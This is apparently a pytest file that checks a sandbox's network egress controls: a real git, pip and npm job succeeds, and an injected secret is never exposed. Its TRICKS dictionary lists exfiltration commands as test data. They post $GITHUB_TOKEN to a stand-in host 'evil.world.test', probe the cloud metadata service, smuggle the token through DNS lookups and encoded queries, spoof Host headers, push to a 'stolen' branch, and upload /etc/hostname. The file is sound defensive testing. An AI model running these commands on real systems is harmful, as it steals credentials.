"""The whole of it, as its issue says it: no egress by default; a preset and one secret let a real git, pip and npm job
work, while an injected script that tries ten ways to carry data out gets nowhere, can be read about, and never had
the secret's value anywhere near it."""

import base64
import json

import leaks
import pytest
from egress_world import packages, plan
from searching import arguments, files_below, in_file, in_memory, seen_in

TOKEN = plan.TOKEN
ENV = {"GITHUB_TOKEN": TOKEN}

JOB = f"""set -e
cd /root; export GIT_TERMINAL_PROMPT=0
git clone -q https://github.com/{packages.PUBLIC} demo
git clone -q https://x:$GITHUB_TOKEN@github.com/{packages.PRIVATE} private
cat demo/README private/README
pip install -q --target lib {packages.NAME}; PYTHONPATH=lib python3 -m {packages.NAME}
npm install --silent {packages.NAME} >/dev/null; node -e 'require("{packages.NAME}")'
"""

# Each prints one line: what the script would have got.
TRICKS = {
    "an unlisted host": "curl -sS -m 30 https://evil.world.test/ -d \"$GITHUB_TOKEN\"",
    "an address": f"curl -sS -m 30 http://{plan.B4}/ -d \"$GITHUB_TOKEN\"",
    "the metadata service": "curl -sS -m 30 http://169.254.169.254/latest/meta-data/",
    "a name that is the metadata service": "curl -sS -m 30 http://rebind.world.test/",
    "a lookup that carries it": "getent hosts $(printf %s \"$GITHUB_TOKEN\" | tr -d _ | cut -c1-40).evil.world.test",
    "the host of another on an allowed connection": "curl -sS -m 30 -H 'Host: evil.world.test' https://github.com/",
    "another name to an allowed address":
        f"curl -sSk -m 30 --connect-to evil.world.test:443:{plan.C4}:443 https://evil.world.test/",
    "the placeholder to a host that may not have it":
        "curl -sS -m 30 https://pypi.world.test/simple/ -H \"X-It: $GITHUB_TOKEN\"",
    "the placeholder in a query, encoded":
        "curl -sS -m 30 \"https://github.com/search?q=$(printf %s $GITHUB_TOKEN | base64 -w0)\"",
    "a push": "cd /root/demo && git -c user.name=t -c user.email=t@t commit -q --allow-empty -m x && "
              "git push https://x:$GITHUB_TOKEN@github.com/public/demo.git HEAD:refs/heads/stolen",
    "publishing a package": "curl -sS -m 30 -X PUT https://npm.world.test/stolen -d @/etc/hostname",
    "another port": "curl -sS -m 30 https://github.com:8443/",
    "QUIC, UDP and a tunnel":
        "python3 -c \"import sys; sys.path.insert(0, '/tmp'); from probe import *; "
        "sys.exit(set([udp('8.8.8.8', 443), udp('8.8.8.8', 51820)]) == {'refused'})\"",
}


def test_the_default_has_no_egress(egress, clients):
    got = egress.run("run", clients, "sh", "-c", "ls /sys/class/net; curl -sS -m 20 https://github.com/; echo $?")
    assert got.stdout.split() == ["lo", "6"], got


@pytest.fixture(scope="module")
def job(new_box):
    flags = ["--preset", "standard", "--secret", "GITHUB_TOKEN@github.com:basic=password"]
    # where packages come from, as an image of a user's own would say it
    flags += ["-e", "PIP_INDEX_URL=https://pypi.world.test/simple", "-e", "NPM_CONFIG_REGISTRY=https://npm.world.test/"]
    with new_box(flags=flags, env=ENV) as b:
        yield b


def test_a_real_job_works_and_ten_ways_out_do_not(job, egress, world):
    mark = job.mark()
    assert job.sh(JOB, timeout=600).splitlines() == [packages.SAYS] * 4
    # the origin got the real one
    private = [r for r in mark.requests(host="github.com") if "/private/" in r["target"]]
    basic = [v for r in private for k, v in r["headers"] if k.lower() == "authorization"]
    assert basic and base64.b64decode(basic[-1].split()[1]).decode() == f"x:{TOKEN}"

    world.dns(**{"evil.world.test": {"A": [plan.B4]}, "*.evil.world.test": {"A": [plan.B4]},
                 "rebind.world.test": {"A": ["169.254.169.254"]}})
    placeholder = job.sh("printf %s $GITHUB_TOKEN")
    told = {}
    for way, trick in TRICKS.items():
        each = job.mark()
        got = job.exec("sh", "-c", trick)
        out = got.stdout + got.stderr
        wrong = [r for r in each.requests() if "receive-pack" in r["target"] or r["host"] == "evil.world.test"
                 or r["method"] == "PUT" or placeholder in json.dumps(r["headers"])]
        assert not wrong, (way, wrong)
        assert got.returncode != 0 or '"reason"' in out, (way, out)
        data = each.bytes()
        assert not seen_in(data, TOKEN) and not seen_in(data, placeholder), way
        assert not [e for e in each.arrived("dns") if "evil" in (e["name"] or "")], way
        told[way] = [e for e in each.events() if e["event"] in ("refused", "violation")]
    assert not [way for way, events in told.items() if not events]
    world.reset()

    text = egress.ok("logs", "--egress", job.id)
    assert "evil.world.test" in text and "169.254.169.254" in text and "no-rule" in text
    assert TOKEN not in text and placeholder not in text


def test_the_value_is_nowhere(job, egress):
    """Not in the guest's memory (the engine's), its disks, its environment, a snapshot, the state directory, logs,
    or any process's arguments, environment and memory but the vault's own."""
    refs = "https://github.com/private/demo.git/info/refs?service=git-upload-pack"
    assert job.sh(f"curl -sS -o /dev/null -w '%{{http_code}}' -u x:$GITHUB_TOKEN '{refs}'") == "200"
    assert TOKEN not in job.sh("cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\\0' '\\n'")
    found = []
    placeholder = job.sh("printf %s $GITHUB_TOKEN")
    assert [pid for pid in egress.alive() if in_memory(pid, placeholder)], "memory is not seen as it is"
    for pid in egress.alive():
        name = leaks.comm(pid)
        found += [(name, "arguments")] if TOKEN.encode() in arguments(pid) else []
        if name != "berm-vault" and in_memory(pid, TOKEN):
            found.append((name, "memory"))
    egress.ok("snapshot", job.id, "nowhere", timeout=300)
    try:
        found += [p for p in files_below(egress.state_dir) if in_file(p, TOKEN)]
    finally:
        egress.ok("snapshot", "rm", "nowhere")
    assert not found
    for words in (["logs", "--egress", "--json", job.id], ["logs", job.id], ["inspect", job.id],
                  ["secret", "ls", job.id], ["policy", "show", job.id]):
        assert TOKEN not in egress.ok(*words), words
